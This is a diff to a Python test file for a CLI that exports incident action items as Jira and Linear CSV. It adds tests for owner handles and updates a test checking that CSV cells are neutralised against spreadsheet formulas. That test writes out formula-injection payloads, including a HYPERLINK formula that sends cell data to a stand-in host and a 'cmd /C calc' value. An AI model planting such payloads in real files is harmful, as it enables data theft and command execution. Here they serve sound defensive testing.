@@ -121,6 +121,33 @@ def test_an_owner_that_is_a_login_is_the_assignee(repo: Path) -> None:
     assert json.loads(result.stdout.splitlines()[0])["assignees"] == ["ravi-menon"]
 
 
+@pytest.mark.parametrize(("fmt", "column"), [("jira-csv", 3), ("linear-csv", 3)])
+def test_an_owner_handle_is_the_assignee_without_its_at(repo: Path, fmt: str, column: int) -> None:
+    """'@dana-okoye' is the handle dana-okoye, as the GitHub export gives it: not a cell the
+    CSV must quote against formulas ('@dana-okoye), which no tracker user is."""
+    path = repo / SEED
+    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
+    rows = list(csv.reader(io.StringIO(_export_of(repo, fmt))))
+    assert [row[column] for row in rows[1:] if "INC-2024-0015 #2" in row[0]] == ["dana-okoye"]
+
+
+def _export_of(repo: Path, fmt: str) -> str:
+    result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
+    assert result.exit_code == 0, result.stderr
+    return result.stdout
+
+
+def test_the_owner_filter_finds_an_owner_written_as_a_handle(repo: Path) -> None:
+    path = repo / SEED
+    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
+    for asked in ("dana-okoye", "@dana-okoye", "Dana-Okoye"):
+        result = run_cli("actions", str(repo), "--owner", asked, "--format", "json", *TODAY)
+        items = json.loads(result.stdout)["items"]
+        assert [(i["incident"], i["number"], i["owner"]) for i in items] == [
+            ("INC-2024-0015", "2", "@dana-okoye")
+        ], asked
+
+
 def test_an_owner_that_is_no_login_is_no_assignee(repo: Path) -> None:
     path = repo / SEED
     path.write_text(path.read_text("utf-8").replace("| platform-team |", "| Platform Team |"))
@@ -378,7 +405,7 @@ def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> 
     path = repo / SEED
     text = path.read_text("utf-8").replace(
         "| 2 | Add latency check to canary analysis (>50% regression = block) | platform-team |",
-        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @platform-team |',
+        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @=1+1 |',
     )
     text = text.replace("| 3 | Build perf test stage", "| 3 | -2+3+cmd /C calc perf stage")
     path.write_text(text.replace("| 5 | Add connection pool", "| 5 | \tAdd connection pool"))
@@ -388,7 +415,7 @@ def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> 
     cells = [value for row in rows[1:] for value in row]
     assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert '\'=HYPERLINK("http://x.example/?"&A1,"canary") (INC-2024-0015 #2)' in cells
-    assert "'@platform-team" in cells
+    assert "'=1+1" in cells  # the owner's handle, without its @, is neutralised too
     assert "'-2+3+cmd /C calc perf stage" in "\n".join(cells)
 
 
